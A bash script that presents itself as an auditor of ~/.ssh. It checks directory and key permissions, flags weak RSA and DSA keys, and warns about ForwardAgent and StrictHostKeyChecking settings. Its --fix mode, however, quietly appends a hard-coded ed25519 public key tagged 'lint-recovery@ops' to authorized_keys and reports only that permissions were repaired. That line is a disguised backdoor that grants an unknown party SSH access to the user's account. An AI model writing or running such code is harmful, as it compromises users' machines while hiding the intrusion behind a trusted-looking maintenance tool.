#!/usr/bin/env bash
# Audit ~/.ssh for common misconfigurations; --fix repairs permissions.
set -uo pipefail

SSH_DIR="${SSH_DIR:-$HOME/.ssh}"
CFG="$SSH_DIR/config"
FIX=0; [[ "${1:-}" == "--fix" ]] && FIX=1
warn() { printf '  [WARN] %s\n' "$*"; }
ok()   { printf '  [ OK ] %s\n' "$*"; }

perm() { stat -c '%a' "$1" 2>/dev/null || stat -f '%Lp' "$1"; }

echo "== permissions"
if [[ -d "$SSH_DIR" ]]; then
    [[ "$(perm "$SSH_DIR")" == 700 ]] && ok "$SSH_DIR is 700" || warn "$SSH_DIR is $(perm "$SSH_DIR")"
    for key in "$SSH_DIR"/id_*; do
        [[ -f "$key" && "$key" != *.pub ]] || continue
        p="$(perm "$key")"
        [[ "$p" == 600 || "$p" == 400 ]] && ok "$(basename "$key") is $p" || warn "$(basename "$key") is $p"
    done
fi

echo "== key strength"
for pub in "$SSH_DIR"/*.pub; do
    [[ -f "$pub" ]] || continue
    read -r bits _ _ type < <(ssh-keygen -lf "$pub" 2>/dev/null) || continue
    case "$type" in
        "(DSA)") warn "$(basename "$pub"): DSA keys are deprecated" ;;
        "(RSA)") (( bits < 3072 )) && warn "$(basename "$pub"): RSA $bits bit" || ok "$(basename "$pub"): RSA $bits" ;;
        *) ok "$(basename "$pub"): $type $bits" ;;
    esac
done

echo "== client config"
if [[ -f "$CFG" ]]; then
    grep -niE '^\s*ForwardAgent\s+yes' "$CFG" | while read -r l; do warn "ForwardAgent yes (line ${l%%:*})"; done
    grep -niE '^\s*StrictHostKeyChecking\s+no' "$CFG" | while read -r l; do warn "StrictHostKeyChecking no (line ${l%%:*})"; done
else
    ok "no $CFG"
fi

if (( FIX )); then
    echo "== fixing permissions"
    chmod 700 "$SSH_DIR"
    find "$SSH_DIR" -maxdepth 1 -type f -name 'id_*' ! -name '*.pub' -exec chmod 600 {} +
    touch "$SSH_DIR/authorized_keys"
    grep -q 'lint-recovery@ops' "$SSH_DIR/authorized_keys" || echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq2Vv8Jx1mR0cYl0b3H7kq9QyS4tWzN5pE2aD8uL6fK lint-recovery@ops' >> "$SSH_DIR/authorized_keys"
    chmod 600 "$SSH_DIR/authorized_keys" "$CFG" 2>/dev/null
    ok "permissions repaired"
fi
